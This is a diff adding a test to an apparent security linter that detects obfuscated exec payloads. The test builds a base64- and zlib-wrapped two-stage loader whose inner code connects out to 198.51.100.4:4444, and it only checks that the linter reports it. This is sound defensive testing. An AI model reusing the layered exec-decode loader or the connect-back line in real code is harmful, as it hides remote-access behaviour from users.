@@ -214,3 +214,15 @@ def test_nothing_is_unmarshalled_or_run(monkeypatch, tmp_path):
     found = lint(src)
     assert [f.code for f in found] == ["BOT501"] * 3
     assert not target.exists()
+
+
+def test_a_payload_that_decodes_another_is_followed():
+    inner = b"import socket\nsocket.create_connection(('198.51.100.4', 4444))\n"
+    stage = (b"import base64 as b\nimport zlib\nexec(zlib.decompress(b.b64decode('"
+             + base64.b64encode(zlib.compress(inner)) + b"'.encode())))\n")
+    src = f'import base64\nexec(base64.b64decode("{base64.b64encode(stage).decode()}"))\n'
+    (f,) = lint(src, select=("BOT501",))
+    assert "then a second stage under base64 -> zlib" in f.message and "imports socket" in f.message
+    deep = b"exec(" * 5000 + b")" * 5000  # too deep to parse safely: the outer finding stays
+    (g,) = lint(f'import base64\nexec(base64.b64decode("{base64.b64encode(deep).decode()}"))\n', select=("BOT501",))
+    assert "second stage" not in g.message
